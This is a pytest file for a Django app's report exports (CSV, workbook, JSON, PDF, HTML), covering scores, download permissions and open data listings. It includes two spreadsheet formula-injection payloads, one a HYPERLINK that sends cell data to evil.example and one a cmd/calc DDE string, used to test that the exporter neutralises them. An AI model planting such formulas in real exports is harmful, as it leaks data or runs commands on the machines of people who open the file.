"""Report exports: the printable page, PDF, workbook, CSV and JSON open data, who may download
what, and spreadsheet formula injection.

Region A's levels follow the fixture's 1..5 pattern by indicator code: D1-E1 = 1.5,
D1-E2 = 3.5, D2-E1 = 3.0, D2-E2 = 2.5, so D1 = 2.5, D2 = 2.75 and the index 2.625, published
as 2.63 (half up), predicate Baik.
"""

from __future__ import annotations

import csv
import datetime
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook
from pypdf import PdfReader

from assessments.models import Assessment
from assessments.services import assessment_reopen
from reports import exports, scoring, services
from reports.choices import ReportKind
from reports.models import MaturityReport
from reports.selectors_exports import export_data

pytestmark = pytest.mark.django_db

INJECTIONS = ('=HYPERLINK("http://evil.example/?d="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0")


# --------------------------------------------------------------------------- fixtures


@pytest.fixture
def published_a(cast, cycle, approve_region, django_capture_on_commit_callbacks):
    """Region A approved (which builds its final snapshot and the Semarang Raya aggregate),
    and its snapshot published by the administrator."""
    with django_capture_on_commit_callbacks(execute=True):
        approve_region(cycle, cast.region_a)
    report = MaturityReport.objects.get(region=cast.region_a, kind=ReportKind.FINAL)
    return services.report_publish(actor=cast.admin, report=report)


@pytest.fixture
def provisional_b(cast, cycle, fill_region, django_capture_on_commit_callbacks):
    """A provisional snapshot of region B (entered, not submitted): never published."""
    fill_region(cycle, cast.region_b, submit=False)
    with django_capture_on_commit_callbacks(execute=True):
        services.report_run_start(
            actor=cast.admin, cycle=cycle, region=cast.region_b, kind=ReportKind.PROVISIONAL
        )
    return MaturityReport.objects.get(region=cast.region_b, kind=ReportKind.PROVISIONAL)


def rows_of(report: MaturityReport, table: str) -> list[dict]:
    basis = report.results["basis"]
    return [row for row in report.results["tables"][table] if row["basis"] == basis]


def download(client, name: str, report: MaturityReport, language: str = "id"):
    with translation.override(language):
        url = reverse(f"exports:{name}", args=[report.pk])
    return client.get(url)


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def expected_figures(report: MaturityReport) -> dict[tuple, dict]:
    """(aggregation, dimension, element, agency) → the snapshot's figures on its basis."""
    expected = {}
    for row in rows_of(report, "regions"):
        expected[("index", "", "", "")] = {
            "score": row["index"],
            "score_rounded": row["index_rounded"],
            "level": row["level"],
            "predicate": row["predicate"],
            "completeness": row["completeness"],
        }
    for row in rows_of(report, "dimensions"):
        expected[("dimension", row["dimension"], "", "")] = {
            "score": row["score"],
            "score_rounded": row["score_rounded"],
            "level": row["level"],
            "predicate": row["predicate"],
            "completeness": row["completeness"],
        }
    for row in rows_of(report, "elements"):
        expected[("element", row["dimension"], row["element"], "")] = {
            "score": row["score"],
            "score_rounded": scoring.round_published(row["score"]),
            "level": row["level"],
            "completeness": row["completeness"],
        }
    for row in rows_of(report, "agencies"):
        expected[("agency", row["dimension"], "", row["agency"])] = {
            "score": row["score"],
            "answered": row["answered"],
            "total": row["total"],
        }
    return expected


def key_of(record: dict) -> tuple:
    return (
        record["aggregation"],
        record["dimension_code"] or "",
        record["element_code"] or "",
        record["agency_code"] or "",
    )


# --------------------------------------------------------------------------- pure functions


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+62 24 123",
        "-2+3",
        "@SUM(A1)",
        "\t=cmd",
        "\r=cmd",
        "  =HYPERLINK(1)",
        "＝1+1",
        INJECTIONS[0],
    ],
)
def test_text_that_a_spreadsheet_would_run_is_prefixed_with_an_apostrophe(text):
    assert exports.neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Dinas Kesehatan", "Kota Semarang (3374)", "", 2.5, -1, None])
def test_plain_text_and_numbers_are_left_as_they_are(value):
    assert exports.neutralise_cell(value) == value


def test_predicate_bands_agree_with_the_scoring_engine():
    for code, low, high in exports.PREDICATE_BANDS:
        assert scoring.predicate(low) == code
        assert scoring.predicate(high) == code
    assert tuple(code for code, _low, _high in exports.PREDICATE_BANDS) == scoring.PREDICATES


def test_weakest_indicators_of_a_weak_element_get_their_next_level():
    picked = exports.pick_weak_indicators(
        levels={"E1-01": 3, "E1-02": None, "E1-03": float("nan"), "E2-01": 5, "E2-02": 5},
        element_of={"E1-01": "E1", "E1-02": "E1", "E1-03": "E1", "E2-01": "E2", "E2-02": "E2"},
        elements=["E1", "E2"],
        per_element=2,
    )
    # Unanswered indicators are level 0 (next: 1); an element at level 5 everywhere has none.
    assert picked == [("E1", "E1-02", 0, 1), ("E1", "E1-03", 0, 1)]


# --------------------------------------------------------------------------- CSV


def test_csv_download_holds_every_score_of_the_published_snapshot(client, cast, published_a):
    response = download(client, "report_csv", published_a)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    year = published_a.cycle.year
    assert response["Content-Disposition"] == (
        f'attachment; filename="smartprov-3374-{year}-final.csv"'
    )
    assert "public" in response["Cache-Control"]
    assert "max-age=3600" in response["Cache-Control"]

    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8")))
    assert tuple(reader.fieldnames) == exports.COLUMN_NAMES
    records = list(reader)
    expected = expected_figures(published_a)
    assert len(records) == len(expected) == 1 + 2 + 4 + 2  # agency A: D1, agency A2: D2
    for record in records:
        figures = expected[key_of(record)]
        for column, value in figures.items():
            if isinstance(value, float):
                assert float(record[column]) == value, (key_of(record), column)
            else:
                assert record[column] == str(value), (key_of(record), column)
        assert record["region_code"] == "3374"
        assert record["region_name"] == "Kota Semarang"
        assert record["kind"] == record["basis"] == "final"
        assert record["engine_version"] == published_a.engine_version
    index = next(r for r in records if r["aggregation"] == "index")
    assert (index["score_rounded"], index["predicate"]) == ("2.63", "baik")


def test_csv_names_follow_the_language_of_the_url_and_codes_do_not(client, published_a):
    indonesian = csv.DictReader(io.StringIO(download(client, "report_csv", published_a).text))
    english = csv.DictReader(io.StringIO(download(client, "report_csv", published_a, "en").text))
    id_rows, en_rows = list(indonesian), list(english)
    assert [key_of(r) for r in id_rows] == [key_of(r) for r in en_rows]
    element = next(r for r in en_rows if r["aggregation"] == "element")
    assert element["element_name"].startswith("Element ")
    assert next(r for r in id_rows if r["aggregation"] == "element")["element_name"].startswith(
        "Elemen "
    )


# --------------------------------------------------------------------------- workbook


def test_workbook_has_one_sheet_per_aggregation_holding_every_score(client, published_a):
    response = download(client, "report_xlsx", published_a)
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].endswith('-final.xlsx"')
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Index", "Dimensions", "Elements", "Agencies", "Metadata"]

    expected = expected_figures(published_a)
    seen = set()
    for title, aggregation in zip(workbook.sheetnames[:4], exports.AGGREGATIONS, strict=True):
        rows = list(workbook[title].iter_rows(values_only=True))
        assert rows[0] == exports.COLUMN_NAMES
        for values in rows[1:]:
            record = dict(zip(exports.COLUMN_NAMES, values, strict=True))
            assert record["aggregation"] == aggregation
            key = key_of(record)
            for column, value in expected[key].items():
                assert record[column] == value, (key, column)
            seen.add(key)
    assert seen == set(expected)

    flat = [v for row in workbook["Metadata"].iter_rows(values_only=True) for v in row if v]
    assert published_a.input_hash in flat
    assert published_a.engine_version in flat
    assert published_a.framework.version in flat
    assert any(isinstance(v, str) and "PermenPANRB 59/2020" in v for v in flat)


# --------------------------------------------------------------------------- formula injection


def test_formula_in_an_agency_name_is_neutralised_in_csv_and_workbook(client, cast, published_a):
    cast.agency_a.short_name, cast.agency_a2.short_name = INJECTIONS
    cast.agency_a.save(update_fields=["short_name"])
    cast.agency_a2.save(update_fields=["short_name"])

    records = list(csv.DictReader(io.StringIO(download(client, "report_csv", published_a).text)))
    names = {r["agency_short_name"] for r in records if r["aggregation"] == "agency"}
    assert names == {"'" + INJECTIONS[0], "'" + INJECTIONS[1]}
    assert not any(
        value.startswith(("=", "+", "-", "@")) for record in records for value in record.values()
    )

    workbook = load_workbook(io.BytesIO(download(client, "report_xlsx", published_a).content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    short_name_column = exports.COLUMN_NAMES.index("agency_short_name") + 1
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    agency_names = {
        cell.value
        for cell in cells
        if cell.parent.title == "Agencies" and cell.column == short_name_column and cell.row > 1
    }
    assert agency_names == {"'" + INJECTIONS[0], "'" + INJECTIONS[1]}


# --------------------------------------------------------------------------- JSON


def test_json_carries_the_metadata_and_the_same_rows_as_the_csv(client, published_a):
    response = download(client, "report_json", published_a)
    assert response["Content-Type"] == "application/json; charset=utf-8"
    document = json.loads(response.content)
    metadata = document["metadata"]
    assert metadata["framework"] == {
        "slug": published_a.framework.slug,
        "name": published_a.framework.name,
        "version": published_a.framework.version,
    }
    assert metadata["engine_version"] == scoring.ENGINE_VERSION
    assert metadata["input_hash"] == published_a.input_hash
    assert metadata["weights"] == published_a.weights
    assert (
        "weighted mean"
        in json.loads(download(client, "report_json", published_a, "en").content)["metadata"][
            "methodology"
        ]
    )
    assert metadata["methodology"]
    assert metadata["format_version"] == exports.FORMAT_VERSION
    assert [c["name"] for c in metadata["columns"]] == list(exports.COLUMN_NAMES)
    expected = expected_figures(published_a)
    assert {key_of(record) for record in document["data"]} == set(expected)
    for record in document["data"]:
        assert record["score"] == expected[key_of(record)]["score"]


# --------------------------------------------------------------------------- PDF


def test_pdf_has_the_region_name_and_the_index_to_two_decimals(client, published_a):
    response = download(client, "report_pdf", published_a, "en")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    year = published_a.cycle.year
    assert response["Content-Disposition"] == (
        f'attachment; filename="smartprov-3374-{year}-final.pdf"'
    )
    assert response.content.startswith(b"%PDF-")
    assert len(response.content) > 10_000
    text = pdf_text(response.content)
    assert "Kota Semarang" in text
    assert f"{scoring.round_published(published_a.index):.2f}" == "2.63"
    assert "2.63" in text
    assert "Good" in text
    assert "Executive summary" in text
    # The weakest element's weakest indicator (level 1) and what level 2 asks of it.
    assert "D1-E1-01" in text
    assert "Level 2 descriptor" in text


def test_pdf_in_indonesian_writes_the_index_with_a_decimal_comma(client, published_a):
    text = pdf_text(download(client, "report_pdf", published_a).content)
    assert "Kota Semarang" in text
    assert "2,63" in text


# --------------------------------------------------------------------------- HTML page


def test_report_page_has_the_sections_of_the_pdf_and_the_download_links(client, published_a):
    response = download(client, "report_html", published_a, "en")
    assert response.status_code == 200
    body = response.content.decode()
    for text in (
        "Kota Semarang",
        "2.63",
        "Executive summary",
        "Scores per dimension and element",
        "Strengths",
        "Weaknesses and recommendations",
        "Level 2 descriptor",
        "Methodology",
        published_a.input_hash,
    ):
        assert text in body
    with translation.override("en"):
        for name in ("pdf", "xlsx", "csv", "json", "chart"):
            assert reverse(f"exports:report_{name}", args=[published_a.pk]) in body
    assert "<script>" not in body
    assert "public" not in response.get("Cache-Control", "")


def test_report_page_reads_a_bounded_number_of_queries(
    client, published_a, django_assert_max_num_queries
):
    with django_assert_max_num_queries(8):
        assert download(client, "report_html", published_a).status_code == 200


def test_chart_is_an_svg_image(client, published_a):
    response = download(client, "report_chart", published_a)
    assert response["Content-Type"] == "image/svg+xml"
    assert b"<svg" in response.content
    assert "Content-Disposition" not in response


def test_recommendations_are_left_out_once_the_answers_changed(cast, published_a):
    assessment = Assessment.objects.get(cycle=published_a.cycle, region=cast.region_a)
    assessment_reopen(actor=cast.admin, assessment_id=assessment.pk, reason="Koreksi bukti.")
    data = export_data(report=MaturityReport.objects.get(pk=published_a.pk))
    assert data.recommendations == ()
    assert data.recommendations_available is False
    assert exports.report_outline(data)["recommendations_note"]


# --------------------------------------------------------------------------- Semarang Raya


def test_semarang_raya_aggregate_exports_its_index_and_members(client, cast, published_a):
    aggregate = MaturityReport.objects.get(region__isnull=True, kind=ReportKind.FINAL)
    services.report_publish(actor=cast.admin, report=aggregate)
    response = download(client, "report_csv", aggregate)
    year = aggregate.cycle.year
    assert response["Content-Disposition"].endswith(f'smartprov-semarang-raya-{year}-final.csv"')
    records = list(csv.DictReader(io.StringIO(response.text)))
    own = next(r for r in records if r["aggregation"] == "index" and r["region_code"] == "")
    assert float(own["score"]) == aggregate.index
    assert own["regions_counted"] == "1"
    assert own["region_name"] == "Semarang Raya"
    member = next(r for r in records if r["aggregation"] == "index" and r["region_code"])
    assert (member["region_code"], member["region_name"]) == ("3374", "Kota Semarang")
    assert {r["aggregation"] for r in records} == {"index", "dimension"}
    text = pdf_text(download(client, "report_pdf", aggregate, "en").content)
    assert "Semarang Raya" in text
    assert f"{scoring.round_published(aggregate.index):.2f}" in text


# --------------------------------------------------------------------------- who may download


EXPORT_NAMES = ("report_html", "report_pdf", "report_xlsx", "report_csv", "report_json")


@pytest.mark.parametrize("name", EXPORT_NAMES)
def test_anonymous_visitor_gets_404_for_an_unpublished_report(client, provisional_b, name):
    assert download(client, name, provisional_b).status_code == 404


@pytest.mark.parametrize("who", ["operator_b", "operator_a", "coordinator_a"])
def test_operators_and_other_regions_coordinators_get_404_for_an_unpublished_report(
    client, cast, provisional_b, who
):
    client.force_login(getattr(cast, who))
    assert download(client, "report_pdf", provisional_b).status_code == 404


def test_reviewer_may_download_a_provisional_report_which_is_never_cached(
    client, cast, provisional_b
):
    client.force_login(cast.reviewer)
    response = download(client, "report_pdf", provisional_b, "en")
    assert response.status_code == 200
    assert "PROVISIONAL" in pdf_text(response.content)
    assert "no-store" in response["Cache-Control"]
    assert "private" in response["Cache-Control"]
    assert response["X-Robots-Tag"] == "noindex"
    year = provisional_b.cycle.year
    assert response["Content-Disposition"] == (
        f'attachment; filename="smartprov-3321-{year}-provisional-{provisional_b.pk}.pdf"'
    )
    assert download(client, "report_html", provisional_b).status_code == 200


def test_coordinator_may_read_the_unpublished_reports_of_their_own_region(
    client, cast, cycle, fill_region, django_capture_on_commit_callbacks
):
    fill_region(cycle, cast.region_a, submit=False)
    with django_capture_on_commit_callbacks(execute=True):
        services.report_run_start(
            actor=cast.admin, cycle=cycle, region=cast.region_a, kind=ReportKind.PROVISIONAL
        )
    report = MaturityReport.objects.get(region=cast.region_a, kind=ReportKind.PROVISIONAL)
    client.force_login(cast.coordinator_a)
    assert download(client, "report_csv", report).status_code == 200


def test_missing_report_is_404(client):
    assert client.get(reverse("exports:report_pdf", args=[999_999])).status_code == 404


# --------------------------------------------------------------------------- open data index


def test_open_data_index_lists_published_reports_only_with_their_files_and_versions(
    client, published_a, provisional_b
):
    response = client.get(reverse("exports:open_data"))
    assert response.status_code == 200
    body = response.content.decode()
    for name in ("csv", "json", "xlsx", "pdf", "html"):
        assert reverse(f"exports:report_{name}", args=[published_a.pk]) in body
        assert reverse(f"exports:report_{name}", args=[provisional_b.pk]) not in body
    assert published_a.engine_version in body
    assert str(published_a.framework) in body
    assert "agency_short_name" in body  # the column dictionary


def test_open_data_index_reads_a_bounded_number_of_queries(
    client, cast, published_a, django_assert_max_num_queries
):
    aggregate = MaturityReport.objects.get(region__isnull=True, kind=ReportKind.FINAL)
    services.report_publish(actor=cast.admin, report=aggregate)
    with django_assert_max_num_queries(2):
        response = client.get(reverse("exports:open_data"))
    assert reverse("exports:report_csv", args=[aggregate.pk]) in response.content.decode()


def test_link_checkers_may_ask_for_the_headers_only(client, published_a):
    with translation.override("id"):
        response = client.head(reverse("exports:report_csv", args=[published_a.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_open_data_catalogue_lists_absolute_links_of_each_published_report(client, published_a):
    document = client.get(reverse("exports:open_data_catalog")).json()
    (dataset,) = document["datasets"]
    assert dataset["report_id"] == published_a.pk
    assert dataset["framework"]["version"] == published_a.framework.version
    urls = {item["format"]: item["url"] for item in dataset["distributions"]}
    assert urls["CSV"] == "http://testserver" + reverse("exports:report_csv", args=[published_a.pk])


def test_exports_are_reproducible_for_the_same_generation_time(published_a):
    moment = timezone.make_aware(datetime.datetime(2025, 3, 1, 9, 0))
    report = MaturityReport.objects.select_related("cycle", "region", "framework").get(
        pk=published_a.pk
    )
    first = export_data(report=report, generated_at=moment)
    second = export_data(report=report, generated_at=moment)
    assert exports.report_csv(first) == exports.report_csv(second)
    assert exports.report_json(first) == exports.report_json(second)
